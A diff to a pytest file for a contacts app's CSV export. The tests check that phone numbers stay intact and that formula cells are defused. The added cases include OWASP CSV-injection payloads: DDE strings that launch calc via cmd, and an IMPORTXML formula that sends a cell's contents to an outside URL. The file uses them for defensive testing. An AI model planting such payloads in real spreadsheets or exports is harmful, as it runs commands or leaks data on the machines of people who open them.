@@ -8,7 +8,8 @@ import io
 import pytest
 
 from contactsapp.logging import redact
-from exports.csv_export import csv_chunks, neutralise
+from exports.downloads.base import csv_chunks
+from exports.downloads.formulas import neutralise
 from exports.linkedin_api import Unavailable, parse_export_task
 
 
@@ -24,7 +25,33 @@ from exports.linkedin_api import Unavailable, parse_export_task
         ("+1 415 555 0100", "+1 415 555 0100"),
         ("(415) 555-0100", "(415) 555-0100"),
         ("+44 20 7946 0958", "+44 20 7946 0958"),
+        # Extensions and E.164: no formula can be built from them either.
+        ("+1-415-555-0164 ext. 43", "+1-415-555-0164 ext. 43"),
+        ("+1 415 555 0164 ext 43", "+1 415 555 0164 ext 43"),
+        ("+1 415 555 0164 x43", "+1 415 555 0164 x43"),
+        ("+1 415 555 0164 #43", "+1 415 555 0164 #43"),
+        ("+14155550164", "+14155550164"),
+        ("+14155550164 ext. 43", "+14155550164 ext. 43"),
+        ("+33 1/55.55.01.00", "+33 1/55.55.01.00"),
+        ("+14155550100 ::: +442079460958", "+14155550100 ::: +442079460958"),  # Google's list
+        ("+14155550100 ::: =1+1", "'+14155550100 ::: =1+1"),
+        # OWASP's CSV-injection payloads, and look-alikes of a phone number.
+        ("=1+2", "'=1+2"),
+        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+        (
+            '=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
+            '\'=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-1-1", "'-1-1"),
+        ("+1 415 555 0164 ext. A1", "'+1 415 555 0164 ext. A1"),
+        ("+1 415\t555", "'+1 415\t555"),
+        ("+1 415 555 0164\nx43", "'+1 415 555 0164\nx43"),
+        ("+", "'+"),
         ("Ada Lovelace", "Ada Lovelace"),
+        ("ada+news@example.com", "ada+news@example.com"),
         ("李小龙", "李小龙"),
         ("", ""),
     ],
@@ -35,7 +62,7 @@ def test_neutralise_defuses_formulas_but_keeps_phone_numbers(cell, expected):
 
 def test_csv_chunks_are_rfc4180_and_round_trip():
     rows = [('Ünïcödé, "quoted"\nname', "a@example.com", "+1 415 555 0100")] * 5000
-    body = b"".join(csv_chunks(rows)).decode("utf-8")
+    body = b"".join(csv_chunks(["Name", "Email Address", "Phone Number"], rows)).decode()
     parsed = list(csv.reader(io.StringIO(body, newline="")))
     assert parsed[0] == ["Name", "Email Address", "Phone Number"]
     assert parsed[1:] == [list(row) for row in rows]
@@ -44,7 +71,7 @@ def test_csv_chunks_are_rfc4180_and_round_trip():
 
 def test_csv_chunks_stream_in_bounded_pieces():
     rows = ([f"name {i}", f"{i}@example.com", ""] for i in range(50_000))
-    sizes = [len(chunk) for chunk in csv_chunks(rows)]
+    sizes = [len(chunk) for chunk in csv_chunks(["Name", "Email", "Phone"], rows)]
     assert len(sizes) > 10
     assert max(sizes) < 128 * 1024
 
